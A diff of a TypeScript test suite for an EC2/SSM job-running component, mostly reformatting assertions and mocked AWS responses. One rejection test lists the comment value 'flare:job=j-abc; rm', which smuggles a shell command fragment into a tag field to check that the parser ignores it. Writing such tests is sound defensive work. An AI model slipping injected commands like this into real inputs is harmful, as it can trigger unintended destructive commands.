     const outcome = await new Ec2SsmCompute(PROPS).commandOutcome('c-1', 'i-1');
 
     assert.deepEqual(outcome, { jobId: 'j-abc', status: 'Failed', statusDetails: 'Failed', exitCode: 42 });
-    assert.deepEqual(ssmMock.commandCalls(GetCommandInvocationCommand)[0].args[0].input, { CommandId: 'c-1', InstanceId: 'i-1' });
+    assert.deepEqual(ssmMock.commandCalls(GetCommandInvocationCommand)[0].args[0].input, {
+      CommandId: 'c-1',
+      InstanceId: 'i-1',
+    });
   });
 
   test('commandOutcome has no exit code when the script never ran (-1), and exit 0 on success', async () => {
@@ -715,24 +941,56 @@ describe('Ec2SsmCompute event lookups', () => {
       .resolvesOnce({ Comment: 'flare:job=j-abc', Status: 'Success', StatusDetails: 'Success', ResponseCode: 0 });
     const compute = new Ec2SsmCompute(PROPS);
 
-    assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), { jobId: 'j-abc', status: 'Failed', statusDetails: 'Undeliverable' });
-    assert.deepEqual(await compute.commandOutcome('c-2', 'i-1'), { jobId: 'j-abc', status: 'Success', statusDetails: 'Success', exitCode: 0 });
+    assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), {
+      jobId: 'j-abc',
+      status: 'Failed',
+      statusDetails: 'Undeliverable',
+    });
+    assert.deepEqual(await compute.commandOutcome('c-2', 'i-1'), {
+      jobId: 'j-abc',
+      status: 'Success',
+      statusDetails: 'Success',
+      exitCode: 0,
+    });
   });
 
   test("commandOutcome says when the script (so the container) ended, from the invocation's ExecutionEndDateTime; none when SSM gives none", async () => {
     ssmMock
       .on(GetCommandInvocationCommand)
-      .resolvesOnce({ Comment: 'flare:job=j-abc', Status: 'Failed', ResponseCode: 143, ExecutionEndDateTime: '2030-01-01T01:01:00.180Z' })
+      .resolvesOnce({
+        Comment: 'flare:job=j-abc',
+        Status: 'Failed',
+        ResponseCode: 143,
+        ExecutionEndDateTime: '2030-01-01T01:01:00.180Z',
+      })
       .resolvesOnce({ Comment: 'flare:job=j-abc', Status: 'Failed', ResponseCode: 143, ExecutionEndDateTime: '' })
-      .resolvesOnce({ Comment: 'flare:job=j-abc', Status: 'Failed', ResponseCode: 143, ExecutionEndDateTime: 'not a time' });
+      .resolvesOnce({
+        Comment: 'flare:job=j-abc',
+        Status: 'Failed',
+        ResponseCode: 143,
+        ExecutionEndDateTime: 'not a time',
+      });
     const compute = new Ec2SsmCompute(PROPS);
 
-    assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), { jobId: 'j-abc', status: 'Failed', exitCode: 143, endedAt: '2030-01-01T01:01:00.180Z' });
+    assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), {
+      jobId: 'j-abc',
+      status: 'Failed',
+      exitCode: 143,
+      endedAt: '2030-01-01T01:01:00.180Z',
+    });
     assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), { jobId: 'j-abc', status: 'Failed', exitCode: 143 });
     assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), { jobId: 'j-abc', status: 'Failed', exitCode: 143 });
   });
 
-  for (const Comment of [undefined, '', 'patching run', 'flare:job=', 'flare:job=J-ABC', 'flare:job=j-abc; rm', 'xflare:job=j-abc']) {
+  for (const Comment of [
+    undefined,
+    '',
+    'patching run',
+    'flare:job=',
+    'flare:job=J-ABC',
+    'flare:job=j-abc; rm',
+    'xflare:job=j-abc',
+  ]) {
     test(`commandOutcome ignores a command that is not Flare's (comment ${JSON.stringify(Comment)})`, async () => {
       ssmMock.on(GetCommandInvocationCommand).resolves({ Comment, Status: 'Success', ResponseCode: 0 });
       assert.equal(await new Ec2SsmCompute(PROPS).commandOutcome('c-1', 'i-1'), undefined);
@@ -747,20 +1005,54 @@ describe('Ec2SsmCompute event lookups', () => {
 
   test('jobOfInstance names the job of a Flare instance', async () => {
     ec2Mock.on(DescribeInstancesCommand).resolves({
-      Reservations: [{ Instances: [{ InstanceId: 'i-1', State: { Name: 'terminated' }, Tags: [{ Key: 'managed-by', Value: 'flare' }, { Key: 'flare:job', Value: 'j-abc' }] }] }],
+      Reservations: [
+        {
+          Instances: [
+            {
+              InstanceId: 'i-1',
+              State: { Name: 'terminated' },
+              Tags: [
+                { Key: 'managed-by', Value: 'flare' },
+                { Key: 'flare:job', Value: 'j-abc' },
+              ],
+            },
+          ],
+        },
+      ],
     });
 
     assert.equal(await new Ec2SsmCompute(PROPS).jobOfInstance('i-1'), 'j-abc');
-    assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand)[0].args[0].input, { InstanceIds: ['i-1'], NextToken: undefined });
+    assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand)[0].args[0].input, {
+      InstanceIds: ['i-1'],
+      NextToken: undefined,
+    });
   });
 
   test('jobOfInstance is undefined for instances Flare did not launch or EC2 no longer knows', async () => {
     const compute = new Ec2SsmCompute(PROPS);
     ec2Mock
       .on(DescribeInstancesCommand)
-      .resolvesOnce({ Reservations: [{ Instances: [{ InstanceId: 'i-1', Tags: [{ Key: 'flare:job', Value: 'j-abc' }] }] }] })
-      .resolvesOnce({ Reservations: [{ Instances: [{ InstanceId: 'i-1', Tags: [{ Key: 'managed-by', Value: 'flare' }] }] }] })
-      .resolvesOnce({ Reservations: [{ Instances: [{ InstanceId: 'i-1', Tags: [{ Key: 'managed-by', Value: 'someone-else' }, { Key: 'flare:job', Value: 'j-abc' }] }] }] })
+      .resolvesOnce({
+        Reservations: [{ Instances: [{ InstanceId: 'i-1', Tags: [{ Key: 'flare:job', Value: 'j-abc' }] }] }],
+      })
+      .resolvesOnce({
+        Reservations: [{ Instances: [{ InstanceId: 'i-1', Tags: [{ Key: 'managed-by', Value: 'flare' }] }] }],
+      })
+      .resolvesOnce({
+        Reservations: [
+          {
+            Instances: [
+              {
+                InstanceId: 'i-1',
+                Tags: [
+                  { Key: 'managed-by', Value: 'someone-else' },
+                  { Key: 'flare:job', Value: 'j-abc' },
+                ],
+              },
+            ],
+          },
+        ],
+      })
       .rejectsOnce(ec2Error('InvalidInstanceID.NotFound'));
 
     for (let i = 0; i < 4; i++) assert.equal(await compute.jobOfInstance('i-1'), undefined);
@@ -780,12 +1072,22 @@ describe('Ec2SsmCompute configuration', () => {
       () => new Ec2SsmCompute({ ...PROPS, pools: { t4: { instanceTypes: ['g4dn.xlarge'] } } }),
       (error: unknown) => error instanceof ValidationError && error.details.some((d) => d.field === 'pools.t4.memory'),
     );
-    assert.doesNotThrow(() => new Ec2SsmCompute({ ...PROPS, pools: { t4: { instanceTypes: ['g4dn.xlarge'] } }, dockerOptions: { memory: '14g' } }));
+    assert.doesNotThrow(
+      () =>
+        new Ec2SsmCompute({
+          ...PROPS,
+          pools: { t4: { instanceTypes: ['g4dn.xlarge'] } },
+          dockerOptions: { memory: '14g' },
+        }),
+    );
   });
 
   test('fails fast without subnets or instance types', () => {
     assert.throws(() => new Ec2SsmCompute({ ...PROPS, subnetIds: [] }), ValidationError);
-    assert.throws(() => new Ec2SsmCompute({ ...PROPS, pools: { a10g: { instanceTypes: [], memory: '14g' } } }), ValidationError);
+    assert.throws(
+      () => new Ec2SsmCompute({ ...PROPS, pools: { a10g: { instanceTypes: [], memory: '14g' } } }),
+      ValidationError,
+    );
   });
 
   test('fails fast on a bad agent timeout, root device or rendezvous port', () => {
